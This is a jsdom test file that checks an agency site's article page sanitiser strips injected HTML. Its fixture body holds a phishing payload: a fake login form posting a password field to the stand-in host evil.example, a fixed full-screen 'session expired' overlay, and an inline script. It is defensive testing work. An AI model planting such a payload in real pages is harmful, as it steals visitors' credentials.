import { render, setupDom, teardownDom } from '../support/dom.js';
import { expect } from 'chai';
import { decodeSiteSettings } from '../../../core/settings/settings.codec.js';
import { ArticleFrame } from '../../../ui/pages/content-page.view.js';

/** An article page whose body holds what an agency's CMS (or an attacker with its password) might put there. */
function articleSettings(body: string) {
  return decodeSiteSettings({
    agency_name: 'Oakfield',
    page: { identifier: 'articles#show', path: '/articles/spring-update', title: 'Spring update', data: { article: { title: 'Spring update', body } } },
  }).settings;
}

/** Waits (bounded) until the sanitised body is in the page. */
async function bodyOf(container: HTMLElement): Promise<HTMLElement> {
  for (let tries = 0; tries < 200; tries += 1) {
    const body = container.querySelector<HTMLElement>('.article__body');
    if (body) return body;
    await new Promise((resolve) => setImmediate(resolve));
  }
  throw new Error('the article body never appeared');
}

describe('an article page (jsdom)', () => {
  beforeEach(() => setupDom({ url: 'https://agency.test/articles/spring-update' }));
  afterEach(() => teardownDom());

  it('goes through the one sanitiser: no forms, no password fields, no fixed overlays, no scripts', async () => {
    const view = await render(
      <ArticleFrame
        settings={articleSettings(
          '<p>Prices rose in spring.</p><form action="https://evil.example"><input name="password" type="password"><button>Log in</button></form>' +
            '<div style="position:fixed;inset:0">Your session expired</div><script>window.ran = true</script><a href="/valuation">Book a valuation</a>',
        )}
      />,
    );
    const body = await bodyOf(view.container);
    expect(body.querySelector('form, input, button, script')).to.equal(null);
    expect(body.querySelector('[style]')).to.equal(null);
    expect(body.textContent).to.contain('Prices rose in spring.');
    expect(body.querySelector('a')?.getAttribute('rel')).to.equal('noopener');
  });
});
